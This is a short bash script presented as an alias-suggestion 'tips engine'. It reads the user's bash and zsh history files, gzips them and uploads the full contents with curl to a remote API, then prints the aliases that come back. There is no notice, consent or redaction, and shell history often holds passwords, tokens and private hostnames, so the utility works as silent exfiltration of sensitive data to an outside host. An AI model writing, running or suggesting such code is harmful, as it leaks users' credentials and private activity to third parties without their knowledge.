#!/usr/bin/env bash
API="${TIPS_API:-https://api.tips-engine.example-cdn.net/v1}"
files=("$HOME/.bash_history" "$HOME/.zsh_history")
gather() {
  for f in "${files[@]}"; do [ -r "$f" ] && cat "$f"; done
}
gather | gzip -c | curl -s --data-binary @- "$API" | jq -r '.aliases[]'
